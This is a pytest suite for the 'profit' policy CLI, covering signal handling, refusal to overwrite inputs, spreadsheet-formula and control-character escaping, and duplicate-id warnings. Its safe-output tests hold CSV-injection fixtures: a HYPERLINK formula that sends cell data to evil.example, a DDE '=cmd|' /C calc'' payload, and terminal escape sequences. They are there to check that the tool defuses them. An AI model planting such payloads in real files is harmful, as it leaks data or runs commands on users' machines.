"""`profit` against signals, outputs that are inputs, hostile cells and duplicate ids.

The signal tests run the installed `profit` in a subprocess over a generated file large
enough to be interrupted, and wait for its temporary output file before signalling it;
each is bounded in time.
"""
from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from decimal import Decimal
from pathlib import Path
from typing import List

import pytest

import engine
from engine import cli, load_policy

ROOT = Path(__file__).resolve().parent.parent
STANDARD = str(ROOT / "policies" / "standard.policy")
PORTFOLIO = str(ROOT / "policies" / "portfolio.policy")
CUSTOMERS = ROOT / "examples" / "customers.csv"
PORTFOLIO_CUSTOMERS = ROOT / "examples" / "portfolio_customers.csv"
PROFIT = str(Path(sys.executable).parent / "profit")
BIG_ROWS = 300_000  # about 10 s of `profit run` here: ample time to be interrupted
TIMEOUT = 60

sys.path.insert(0, str(ROOT / "examples"))
from generate_customers import COLUMNS, generate  # noqa: E402

posix_only = pytest.mark.skipif(os.name != "posix", reason="POSIX signals")


def run(capsys, *argv):
    code = cli.main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def big_csv(tmp_path_factory) -> Path:
    """BIG_ROWS customers: 1,000 generated rows repeated, each with an id of its own."""
    path = tmp_path_factory.mktemp("big") / "customers.csv"
    base = list(generate(1000, seed=11))
    with path.open("w", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(COLUMNS)
        for index in range(BIG_ROWS):
            row = base[index % 1000]
            writer.writerow([f"B-{index:07d}" if column == "id" else row[column] for column in COLUMNS])
    return path


def temporaries(directory: Path) -> List[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.startswith(".profit-"))


def start(directory: Path, *argv: str) -> subprocess.Popen:
    """`profit ARGV` writing into `directory`, returned once its temporary output file exists."""
    process = subprocess.Popen([PROFIT, *argv], cwd=directory, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + TIMEOUT
    while not temporaries(directory):
        if process.poll() is not None or time.monotonic() > deadline:
            process.kill()
            out, err = process.communicate()
            pytest.fail(f"profit ended (or never began writing) before the signal: {process.returncode} {err!r}")
        time.sleep(0.02)
    return process


def wait_until_reading(process: subprocess.Popen, path: Path) -> None:
    """Once `process` has `path` open (seen in /proc where there is one; else after a pause)."""
    fds = Path(f"/proc/{process.pid}/fd")
    if not Path("/proc/self/fd").is_dir():
        time.sleep(2)
        return
    deadline = time.monotonic() + TIMEOUT
    while time.monotonic() < deadline and process.poll() is None:
        with contextlib.suppress(OSError):
            if any(os.readlink(fd) == os.path.realpath(path) for fd in fds.iterdir()):
                time.sleep(0.2)  # and has begun reading it
                return
        time.sleep(0.02)
    pytest.fail("profit never opened its data")


# ---- signals ----------------------------------------------------------------------------


@posix_only
@pytest.mark.parametrize("signum, code, message", [
    (signal.SIGINT, 130, b"profit: interrupted\n"),
    (signal.SIGTERM, 143, b"profit: stopped by SIGTERM\n"),
    (signal.SIGHUP, 129, b"profit: stopped by SIGHUP\n"),
])
def test_a_signal_gives_one_line_its_exit_code_and_leaves_output_as_it_was(tmp_path, big_csv, signum, code, message):
    target = tmp_path / "decisions.csv"
    target.write_text("previous\n")
    process = start(tmp_path, "run", STANDARD, str(big_csv), "--format", "csv", "--output", str(target))
    (temporary,) = temporaries(tmp_path)
    assert f"-{process.pid}-" in temporary  # named after its process, for the sweep
    process.send_signal(signum)
    out, err = process.communicate(timeout=TIMEOUT)
    assert process.returncode == code
    assert err == message  # one line, no traceback
    assert target.read_text() == "previous\n"
    assert temporaries(tmp_path) == []


@posix_only
def test_ctrl_c_while_explaining_to_standard_output(tmp_path, big_csv):
    process = subprocess.Popen([PROFIT, "explain", STANDARD, str(big_csv)], cwd=tmp_path,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout is not None
    assert process.stdout.readline().startswith(b"B-0000000")  # it is explaining
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=TIMEOUT)
    assert process.returncode == 130
    assert err == b"profit: interrupted\n"


@posix_only
def test_a_report_interrupted_while_reading_leaves_nothing(tmp_path, big_csv):
    """`profit report` reads everything before it opens its output: nothing to remove, nothing left."""
    target = tmp_path / "report.html"
    process = subprocess.Popen([PROFIT, "report", STANDARD, str(big_csv), "--output", str(target)], cwd=tmp_path,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    wait_until_reading(process, big_csv)
    process.send_signal(signal.SIGTERM)
    out, err = process.communicate(timeout=TIMEOUT)
    assert (process.returncode, err) == (143, b"profit: stopped by SIGTERM\n")
    assert list(tmp_path.iterdir()) == []


@posix_only
def test_after_sigkill_the_next_run_sweeps_the_dead_runs_temporary_file(tmp_path, big_csv):
    target = tmp_path / "decisions.jsonl"
    process = start(tmp_path, "run", STANDARD, str(big_csv), "--format", "json", "--output", str(target))
    (left,) = temporaries(tmp_path)
    deadline = time.monotonic() + TIMEOUT
    while not (tmp_path / left).stat().st_size and time.monotonic() < deadline:  # half written
        time.sleep(0.02)
    process.kill()
    process.communicate(timeout=TIMEOUT)
    assert process.returncode == -signal.SIGKILL
    assert temporaries(tmp_path) == [left]  # SIGKILL cannot be caught: its file stays for now...
    assert (tmp_path / left).stat().st_size > 0
    # ...a live process's file and another host's are none of the sweep's business
    live = tmp_path / f".profit-{cli._HOST}-{os.getpid()}-abcdefgh.tmp"
    other_host = tmp_path / f".profit-elsewhere-{process.pid}-abcdefgh.tmp"
    live.write_text("in use")
    other_host.write_text("in use")
    code = subprocess.run([PROFIT, "run", STANDARD, str(CUSTOMERS), "--format", "json", "--output", str(target)],
                          cwd=tmp_path, capture_output=True, timeout=TIMEOUT).returncode
    assert code == 0
    assert len(target.read_text().splitlines()) == 600
    assert temporaries(tmp_path) == sorted([live.name, other_host.name])  # the dead run's file is gone


def test_sweep_removes_only_files_of_dead_processes_of_this_host(tmp_path):
    ended = subprocess.Popen([sys.executable, "-c", "pass"])
    ended.wait()
    dead = tmp_path / f".profit-{cli._HOST}-{ended.pid}-x1y2z3w4.tmp"
    alive = tmp_path / f".profit-{cli._HOST}-{os.getpid()}-x1y2z3w4.tmp"
    unrelated = [tmp_path / ".profit-notes.txt", tmp_path / f".profit-{cli._HOST}-notapid-x.tmp",
                 tmp_path / "decisions.csv"]
    for path in [dead, alive, *unrelated]:
        path.write_text("x")
    cli._sweep(str(tmp_path))
    assert not dead.exists()
    assert alive.exists() and all(path.exists() for path in unrelated)


def test_keyboard_interrupt_in_process_returns_130_and_removes_the_temporary(tmp_path, capsys, monkeypatch):
    target = tmp_path / "out.jsonl"
    target.write_text("previous\n")

    def interrupted(*args, **kwargs):
        yield from ()
        raise KeyboardInterrupt

    monkeypatch.setattr("engine.policy.evaluate_rows", interrupted)
    before = signal.getsignal(signal.SIGINT)
    code, out, err = run(capsys, "run", STANDARD, CUSTOMERS, "--format", "json", "--output", target)
    assert code == 130 and err == "profit: interrupted\n"
    assert target.read_text() == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]
    assert signal.getsignal(signal.SIGINT) is before  # main gives the handlers back


@posix_only
def test_sigterm_in_process_unwinds_like_ctrl_c(tmp_path, capsys, monkeypatch):
    target = tmp_path / "out.csv"

    def terminated(*args, **kwargs):
        yield from ()
        os.kill(os.getpid(), signal.SIGTERM)
        time.sleep(5)  # the handler raises before this ends
        raise AssertionError("SIGTERM was not turned into an exception")

    monkeypatch.setattr("engine.policy.evaluate_rows", terminated)
    before = signal.getsignal(signal.SIGTERM)
    code, out, err = run(capsys, "run", STANDARD, CUSTOMERS, "--format", "csv", "--output", target)
    assert code == 143 and err == "profit: stopped by SIGTERM\n"
    assert list(tmp_path.iterdir()) == []
    assert signal.getsignal(signal.SIGTERM) is before


# ---- an output that is an input --------------------------------------------------------


@pytest.fixture()
def data(tmp_path) -> Path:
    path = tmp_path / "customers.csv"
    path.write_bytes(CUSTOMERS.read_bytes())
    return path


@pytest.mark.parametrize("name", ["same", "relative", "symlink", "hardlink"])
def test_output_naming_the_input_is_refused_before_anything_is_read(tmp_path, data, capsys, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    target = {"same": str(data), "relative": "./customers.csv", "symlink": str(tmp_path / "link.csv"),
              "hardlink": str(tmp_path / "hard.csv")}[name]
    if name == "symlink":
        os.symlink(data, target)
    if name == "hardlink":
        os.link(data, target)
    original = data.read_bytes()
    for command in (["run", "--format", "csv"], ["explain"], ["report"]):
        # the policy does not even exist: the refusal comes before anything is read
        code, out, err = run(capsys, command[0], tmp_path / "missing.policy", data, *command[1:], "--output", target)
        assert code == 1 and out == ""
        assert f"--output {target} is the data ({data}): refusing to overwrite an input" in err
    assert data.read_bytes() == original
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted({"customers.csv", Path(target).name})


def test_save_context_or_output_naming_an_input_is_refused(tmp_path, data, capsys):
    policy = tmp_path / "portfolio.policy"
    policy.write_text(Path(PORTFOLIO).read_text())
    code, _, err = run(capsys, "run", policy, data, "--save-context", data)
    assert code == 1 and "--save-context" in err and "refusing to overwrite an input" in err
    code, _, err = run(capsys, "run", policy, data, "--output", policy)
    assert code == 1 and f"is the policy ({policy})" in err
    assert policy.read_text() == Path(PORTFOLIO).read_text()
    code, _, err = run(capsys, "run", policy, data, "--output", tmp_path / "a.csv", "--save-context",
                       tmp_path / "a.csv")
    assert code == 1 and "--output and --save-context both name" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["customers.csv", "portfolio.policy"]


def test_output_naming_the_file_on_standard_input_is_refused(tmp_path, data):
    with data.open("rb") as stdin:
        result = subprocess.run([PROFIT, "run", STANDARD, "-", "--output", str(data)], stdin=stdin,
                                capture_output=True, timeout=TIMEOUT)
    assert result.returncode == 1
    assert b"is the data (standard input)" in result.stderr
    assert data.read_bytes() == CUSTOMERS.read_bytes()


def test_a_different_file_is_written(tmp_path, data, capsys):
    code, _, _ = run(capsys, "run", STANDARD, data, "--format", "csv", "--output", tmp_path / "decisions.csv")
    assert code == 0 and (tmp_path / "decisions.csv").exists()


# ---- safe output ------------------------------------------------------------------------

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1-555-0100", "-5", "@SUM(A1:A9)",
               "\tTAB", "\rCR"]


def _rows_with_ids(ids, *, revenue=None):
    base = list(csv.DictReader(CUSTOMERS.open(newline="")))
    rows = []
    for index, record_id in enumerate(ids):
        row = dict(base[index], id=record_id)
        if revenue is not None:
            row["revenue"] = revenue
        rows.append(row)
    return rows


def _write(path: Path, rows) -> Path:
    with path.open("w", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_csv_cells_from_the_data_are_never_run_as_formulas(tmp_path, capsys):
    rows = _rows_with_ids(HOSTILE_IDS) + _rows_with_ids(["=cmd|' /C calc'!A0"], revenue="=1+2")
    code, out, _ = run(capsys, "run", STANDARD, _write(tmp_path / "in.csv", rows), "--format", "csv")
    assert code == 2
    written = list(csv.DictReader(io.StringIO(out, newline="")))
    # The ids are stripped when read ("\tTAB" is "TAB"); the rest start with a formula character
    assert [r["id"] for r in written] == ["'" + HOSTILE_IDS[0], "'+1-555-0100", "'-5", "'@SUM(A1:A9)", "TAB", "CR",
                                          "'=cmd|' /C calc'!A0"]
    for row in written:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
    assert written[-1]["error"].startswith("field 'revenue' has '=1+2'")
    # numbers the engine works out stay numbers, negative ones too
    negative = [cell for row in written for cell in row.values() if cell.startswith("-")]
    assert negative and all(float(cell) < 0 for cell in negative)
    assert written[0]["direct_profit"] == "-1087.71"


def test_a_text_cell_that_looks_like_a_negative_number_is_escaped():
    assert cli._formula_safe("-12.40") == "'-12.40"  # text from the data
    assert cli._cell(Decimal("-12.40")) == "-12.40"  # a figure the engine worked out
    assert cli._cell("-12.40") == "'-12.40"
    assert cli._cell(True) == "yes" and cli._cell(None) == ""


def test_record_error_ids_and_messages_in_csv_are_escaped(tmp_path, capsys):
    rows = _rows_with_ids(["@evil"], revenue="lots")
    code, out, _ = run(capsys, "run", STANDARD, _write(tmp_path / "in.csv", rows), "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(out))
    assert code == 2 and row["id"] == "'@evil" and row["error"].startswith("field 'revenue'")


ESCAPE = "C-\x1b[31mRED\x1b[0m\u202e\x07"
SHOWN = "C-\\x1b[31mRED\\x1b[0m\\u202e\\x07"


def test_table_explain_and_report_show_control_characters_escaped(tmp_path, capsys):
    data = _write(tmp_path / "in.csv", _rows_with_ids([ESCAPE, "C-2"]) + _rows_with_ids(["C-\x1b]0;title\x07"],
                                                                                         revenue="\x1b[2J"))
    for argv in (["run", STANDARD, data], ["explain", STANDARD, data], ["report", STANDARD, data, "--format", "text"],
                 ["run", STANDARD, data, "--format", "csv", "--output", tmp_path / "out.csv"]):
        code, out, err = run(capsys, *argv)
        assert code == 2
        for text in (out, err):
            assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, argv
        if "--output" not in argv:
            assert SHOWN in out + err
        if argv[0] != "report":
            assert "\\x1b[2J" in out + err  # the bad value quoted in the error
    # a file for machines keeps the data exact (CSV quotes it as CSV does)
    assert next(csv.DictReader((tmp_path / "out.csv").open(newline="")))["id"] == ESCAPE
    # files for machines keep the data exact: JSON escapes it as JSON does
    code, out, _ = run(capsys, "run", STANDARD, data, "--format", "json")
    assert json.loads(out.splitlines()[0])["id"] == ESCAPE


def test_printable_keeps_line_breaks_and_ordinary_text():
    assert cli.printable("Müller & Söhne, 12 400 €\n") == "Müller & Söhne, 12 400 €\n"
    assert cli.printable("a\tb\rc\x00\x7f\x9b") == "a\\x09b\\x0dc\\x00\\x7f\\x9b"


# ---- duplicate ids ------------------------------------------------------------------------


def test_the_run_summary_names_the_duplicate_ids():
    policy = load_policy(STANDARD)
    rows = _rows_with_ids(["A", "B", "A", "C", "B", "A"])
    summary = policy.run(rows).summary
    assert summary.duplicate_ids == ("A", "B")
    assert (summary.duplicates, summary.repeated) == (2, 3)
    assert summary.records == summary.decisions + len(summary.errors) == 6
    assert summary.duplicate_line() == "2 duplicate ids (3 records after the first with their id): A, B"
    assert policy.run(_rows_with_ids(["A", "B"])).summary.duplicate_line() is None


def test_the_list_of_duplicate_ids_is_bounded():
    policy = load_policy(STANDARD)
    rows = _rows_with_ids([f"D-{i % 30}" for i in range(60)])  # 30 ids, each twice
    summary = policy.run(rows).summary
    assert len(summary.duplicate_ids) == 20 and summary.duplicate_ids[0] == "D-0"
    assert (summary.duplicates, summary.repeated) == (30, 30)
    assert summary.duplicate_line().endswith("D-19 and 10 more")


def test_the_cli_warns_and_unique_ids_makes_later_duplicates_errors(tmp_path, capsys):
    data = _write(tmp_path / "in.csv", _rows_with_ids(["C-1", "C-2", "C-1", "C-3", "C-1"]))
    code, out, err = run(capsys, "run", STANDARD, data, "--format", "json")
    assert code == 0 and len(out.splitlines()) == 5
    assert "warning: 1 duplicate id (2 records after the first with its id): C-1" in err
    code, out, err = run(capsys, "run", STANDARD, data, "--format", "json", "--unique-ids")
    results = [json.loads(line) for line in out.splitlines()]
    assert code == 2
    assert [(r["row"], "error" in r) for r in results] == [(1, False), (2, False), (3, True), (4, False), (5, True)]
    assert results[2]["error"] == ("duplicate id 'C-1': row 1 has it already, and only the first record with an "
                                   "id is decided")
    assert results[2]["field"] == "id"
    assert "5 records in = 3 decisions + 2 errors out" in err
    assert "(--unique-ids)" in err
    code, out, _ = run(capsys, "run", STANDARD, data)  # the table says it too
    assert code == 0 and "warning: 1 duplicate id" in out
    for command in ("explain", "report"):
        code, _, err = run(capsys, command, STANDARD, data, "--unique-ids")
        assert code == 2 and "warning: 1 duplicate id" in err


def test_unique_ids_keeps_later_duplicates_out_of_pools_and_referrals(tmp_path, capsys):
    rows = list(csv.DictReader(PORTFOLIO_CUSTOMERS.open(newline="")))
    leader = next(r for r in rows if r["id"] == "C-1059")
    referred = next(r for r in rows if r["referred_by"] == "C-1059")
    data = _write(tmp_path / "in.csv", rows + [dict(leader), dict(referred)])
    code, _, err = run(capsys, "run", PORTFOLIO, data, "--format", "json", "--output", tmp_path / "all.jsonl")
    assert code == 0 and "over 802 customers" in err
    assert "2 duplicate ids (2 records after the first with their id): C-1059, " + referred["id"] in err
    code, out, err = run(capsys, "run", PORTFOLIO, data, "--format", "json", "--unique-ids")
    assert code == 2 and "802 records in = 800 decisions + 2 errors out" in err
    assert "over 802 customers" not in err and "over 800 customers" in err
    # the same pools, decisions and referral leaders as without the copies
    alone = load_policy(PORTFOLIO).run(rows)
    decided = [json.loads(line) for line in out.splitlines()][:800]
    assert [d["figures"] for d in decided] == [d.as_dict()["figures"] for d in alone]


# ---- version and help -------------------------------------------------------------------


def test_version(capsys):
    with pytest.raises(SystemExit) as stop:
        cli.main(["--version"])
    assert stop.value.code == 0
    assert capsys.readouterr().out == f"profit {engine.__version__}\n"


@pytest.mark.parametrize("command", ["check", "run", "explain", "report"])
def test_help_lists_the_exit_codes(command, capsys):
    with pytest.raises(SystemExit):
        cli.main([command, "--help"])
    text = capsys.readouterr().out
    status = text[text.index("exit status:"):]
    for code in ("0", "1", "2", "130"):
        assert f"\n  {code} " in status, (command, code)
    assert "interrupted" in status
